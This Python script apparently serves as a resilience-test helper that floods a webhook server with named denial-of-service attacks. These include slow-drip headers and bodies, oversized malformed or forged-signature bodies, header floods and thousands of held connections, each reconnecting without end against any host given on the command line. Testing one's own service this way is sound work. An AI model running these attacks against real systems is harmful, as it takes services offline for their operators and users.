"""Strangers who want to keep the sender out: one attack by its name, from a process of its own, until it is ended."""

import asyncio
import base64
import contextlib
import resource
import sys
from collections.abc import Awaitable, Callable

MIB = 1024 * 1024
HEAD = b"POST /webhooks/User.Updated HTTP/1.1\r\nHost: x\r\n"
# As long as a real one, so that the body has to be hashed.
FORGED = b"Tier3-RsaSha1: " + base64.b64encode(b"\x01" * 256) + b"\r\n"
HEALTH = b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n"

Connect = Callable[[], Awaitable[tuple[asyncio.StreamReader, asyncio.StreamWriter]]]


async def repeated(connect: Connect, data: bytes, *, waits: bool = True) -> None:
    """Send the same on one connection again and again, after each answer or without reading any."""
    reader, writer = await connect()
    while True:
        writer.write(data)
        await writer.drain()
        if waits and not await reader.read(65536):
            raise ConnectionResetError


async def dripped(connect: Connect, head: bytes) -> None:
    """Send a head, and then a byte a second."""
    _, writer = await connect()
    writer.write(head)
    while True:
        await asyncio.sleep(1)
        writer.write(b"x")
        await writer.drain()


async def held(connect: Connect) -> None:
    """Ask for the health once a while, and keep the connection."""
    reader, writer = await connect()
    while True:
        writer.write(HEALTH)
        await writer.drain()
        if not await reader.read(4096):
            raise ConnectionResetError
        await asyncio.sleep(20)


async def reopened(connect: Connect) -> None:
    """Ask for the health on a new connection."""
    reader, writer = await connect()
    writer.write(HEALTH)
    await reader.read(4096)
    writer.close()


def _with_length(headers: bytes, body: bytes) -> bytes:
    return HEAD + headers + b"Content-Length: %d\r\n\r\n" % len(body) + body


BROKEN = _with_length(b"", b'{"k":[' + b"1e400," * (MIB // 6 - 2))
FORGED_BODY = _with_length(FORGED, b'{"k":"' + b"x" * (MIB - 8) + b'"}')
TINY_CHUNKS = HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\nx\r\n" * 100_000 + b"0\r\n\r\n"
MANY_HEADERS = HEAD + b"".join(b"%x:\r\n" % number for number in range(9_000)) + b"\r\n"
LONG_HEADERS = HEAD + b"X: " + b"y" * 15_000 + b"\r\n\r\n"

BEGUN = "begun"
"""Is printed once as many connections were tried as the attack has."""

ATTACKS: dict[str, tuple[int, Callable[[Connect], Awaitable[None]]]] = {
    "unsigned broken bodies of 1 MiB": (16, lambda connect: repeated(connect, BROKEN)),
    "forged signatures of 1 MiB bodies": (16, lambda connect: repeated(connect, FORGED_BODY)),
    "bodies in chunks of a byte": (16, lambda connect: repeated(connect, TINY_CHUNKS)),
    "9,000 headers a request": (16, lambda connect: repeated(connect, MANY_HEADERS)),
    "headers of 15 kB": (16, lambda connect: repeated(connect, LONG_HEADERS)),
    "health checks without a pause": (16, lambda connect: repeated(connect, HEALTH)),
    "answers that nobody reads": (64, lambda connect: repeated(connect, HEALTH * 100, waits=False)),
    "slow bodies": (1_000, lambda connect: dripped(connect, HEAD + b"Content-Length: 1000\r\n\r\n")),
    "slow headers": (1_000, lambda connect: dripped(connect, HEAD + b"X: ")),
    "connections opened anew": (16, reopened),
    "4,500 connections kept open": (4_500, held),
}


async def attack(name: str, host: str, port: int) -> None:
    """Run an attack, each connection anew when it is closed, without an end."""
    number, act = ATTACKS[name]
    tried = 0

    async def connect() -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        nonlocal tried
        try:
            return await asyncio.open_connection(host, port)
        finally:
            tried += 1
            if tried == number:
                print(BEGUN, flush=True)

    async def again() -> None:
        while True:
            with contextlib.suppress(OSError):
                await act(connect)
            await asyncio.sleep(0.001)

    await asyncio.gather(*(again() for _ in range(number)))


if __name__ == "__main__":
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(8192, hard), hard))
    asyncio.run(attack(sys.argv[1], sys.argv[2], int(sys.argv[3])))
